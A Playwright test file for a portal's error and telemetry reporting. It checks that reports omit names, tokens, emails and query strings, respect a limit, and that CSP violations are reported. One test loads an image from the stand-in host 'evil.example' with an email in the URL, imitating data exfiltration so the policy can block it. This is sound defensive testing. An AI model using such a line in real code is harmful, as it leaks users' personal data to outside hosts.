import type { Page } from '@playwright/test';
import { browserArgs } from '../../scripts/lib/browser.mjs';
import { dist } from '../../scripts/lib/root.mjs';
import { mockBackend } from '../../scripts/serve/mockBackend.ts';
import { servePortal, type RunningPortal } from '../../scripts/serve/servePortal.ts';
import { enterAs } from '../support/steps.ts';
import { type Mock } from '../support/mock.ts';
import { expect, test as portalTest } from '../support/fixtures.ts';

/** The lines that the server writes for reports. */
const lines: string[] = [];

// Chromium holds reports of violations for a minute, and sends none without its background calls.
const quiet = '--disable-background-networking';

/** A server with its own log, which the tests read. */
const test = portalTest.extend<object, { portal: RunningPortal }>({
  portal: [
    async ({}, use) => {
      const report = (line: string) => void lines.push(line);
      const portal = await servePortal({ dist, backend: mockBackend(), port: 0, report });
      await use(portal);
      await portal.close();
    },
    { scope: 'worker' },
  ],
  baseURL: async ({ portal }, use) => use(portal.address),
  launchOptions: async ({ launchOptions }, use) =>
    use({
      ...launchOptions,
      args: [...browserArgs.filter((arg) => arg !== quiet), '--short-reporting-delay'],
      ignoreDefaultArgs: [quiet],
    }),
});

test.describe.configure({ mode: 'default' });
test.beforeEach(() => void (lines.length = 0));

interface Report {
  kind: string;
  name: string;
  at?: string;
  route: string;
  release: string;
  browser: string;
  value?: number;
}

function reports(): Report[] {
  return lines.map((line): Report => JSON.parse(line.replace(/^report /, '')));
}

/** Opens a page as a member and waits until the module that sends reports has loaded. */
async function openAsMember(page: Page, mock: Mock, path: string): Promise<void> {
  await enterAs(page, 'member', mock);
  const loaded = page.waitForResponse(/\/assets\/reports-[^/]+\.js$/);
  await page.goto(path);
  await loaded;
}

test('errors are reported once each, ten of a page load at most, and name nobody', async ({
  page,
  mock,
  expectErrors,
}) => {
  expectErrors(/forjado|Uncaught/);
  await openAsMember(page, mock, '/perfil');
  const name = (await page.getByRole('heading', { level: 1 }).innerText()).replace(/^Olá, /, '').replace(/!$/, '');
  const token = await page.evaluate(() => localStorage.getItem('token'));
  const hostile = `forjado ${name} ativa@exemplo.com.br ${token} 123.456.789-09 /curso/12?token=abc`;
  await page.evaluate((text) => {
    for (let at = 0; at < 3; at += 1)
      setTimeout(() => {
        throw new TypeError(text);
      });
    void Promise.reject(new Error(text));
    for (let at = 0; at < 20; at += 1) void Promise.reject(Object.assign(new Error(text), { name: `Forjado${at}` }));
  }, hostile);
  await expect.poll(() => reports().length).toBeGreaterThanOrEqual(7);
  await page.goto('/healthz');
  await expect.poll(() => reports().some(({ kind }) => kind === 'vital')).toBe(true);
  await page.waitForTimeout(300);
  expect(reports().length).toBeLessThanOrEqual(10);
  const [first] = reports();
  expect(first).toMatchObject({ kind: 'error', route: '/perfil', release: expect.stringMatching(/^[\w.+-]+$/) });
  expect(first?.browser).toContain('Chrom');
  expect(reports().filter(({ kind, name: one }) => kind === 'error' && one === 'TypeError')).toHaveLength(1);
  const sent = lines.join('\n');
  for (const secret of ['forjado', name, String(token), 'ativa@', '123.456', 'token=', '/curso/12'])
    expect([secret, sent.includes(secret)]).toEqual([secret, false]);
});

test('the paint, the shift and the answer to a click are reported by the pattern of the route', async ({
  page,
  mock,
}) => {
  await openAsMember(page, mock, '/curso/1');
  await page.getByRole('heading', { level: 2, name: 'Conteúdo do curso' }).click();
  await page.goto('/healthz');
  await expect.poll(() => reports().map(({ name }) => name)).toEqual(expect.arrayContaining(['LCP', 'CLS']));
  for (const { kind, route, value } of reports()) {
    expect([kind, route]).toEqual(['vital', '/curso/:cursoId']);
    expect(value).toBeGreaterThanOrEqual(0);
  }
});

test('an answer that differs from the contract is reported without its content', async ({ page, mock }) => {
  await enterAs(page, 'member', mock);
  const body = { fundos: [{ id: 1, type: 'Raiz Secreta', amount: 'segredo' }] };
  await mock.fault({ operation: 'listFunds', body });
  await page.goto('/perfil/fundos');
  await expect.poll(() => reports().map(({ kind }) => kind)).toContain('drift');
  const [drift] = reports();
  expect(drift?.name).toContain('GET /fundos');
  expect(lines.join()).not.toMatch(/segredo|Secreta/);
});

test('a violation of the policy is reported by the browser, without the query', async ({
  page,
  mock,
  expectErrors,
}) => {
  expectErrors(/Content Security Policy|violates/);
  await openAsMember(page, mock, '/curso/1?token=abc');
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/x.png?who=ana@exemplo.com.br';
  });
  await expect.poll(() => lines.join(), { timeout: 20_000 }).toContain('img-src');
  const policy = lines.find((line) => line.includes('img-src'));
  expect(policy).toContain('img-src');
  expect(policy).not.toMatch(/token=|ana@|\/curso\/1\b/);
});

test('without a receiver the portal works, and nothing is sent again', async ({ page, expectErrors }) => {
  expectErrors(/forjado|Failed to load resource/);
  let requested = 0;
  await page.route('**/reports', (route) => {
    requested += 1;
    return route.fulfill({ status: 502 });
  });
  const loaded = page.waitForResponse(/\/assets\/reports-[^/]+\.js$/);
  await page.goto('/login');
  await loaded;
  await page.evaluate(() => void Promise.reject(new Error('forjado')));
  await expect.poll(() => requested).toBe(1);
  await page.waitForTimeout(1500);
  expect(requested).toBe(1);
  expect(await page.getByLabel('E-mail', { exact: true }).isEnabled()).toBe(true);
});
